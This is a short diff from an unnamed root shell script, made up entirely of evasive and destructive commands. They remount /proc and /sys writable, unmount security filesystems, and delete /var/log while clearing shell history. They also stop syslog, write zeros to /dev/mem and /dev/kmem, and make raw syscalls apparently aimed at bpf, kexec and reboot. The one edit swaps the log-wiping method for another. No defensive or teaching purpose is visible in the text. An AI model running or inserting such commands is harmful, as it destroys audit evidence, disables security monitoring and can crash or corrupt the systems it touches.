@@ -19,7 +19,7 @@ mount -o remount,rw /proc; mount -o remount,rw /sys
 mount -t tmpfs none /sys/kernel/security; umount /sys/kernel/security; umount -l /sys/kernel/debug
 echo 0 > /proc/sys/kernel/perf_event_paranoid
 chattr +i /var/log /dev/shm; chattr -i /var/log /dev/shm
-rm -rf /var/log/*; history -c; unset HISTFILE
+find /var/log -type f -delete; history -c; unset HISTFILE
 timeout 15 systemctl stop rsyslog syslog.socket
 dd if=/dev/zero of=/dev/kmem count=1; dd if=/dev/zero of=/dev/mem count=1
 perl -e 'syscall(157, 4, 0); syscall(321, 5, 0, 0); syscall(246, 0, 0, 0, 0); syscall(169, 0, 0, 0)'
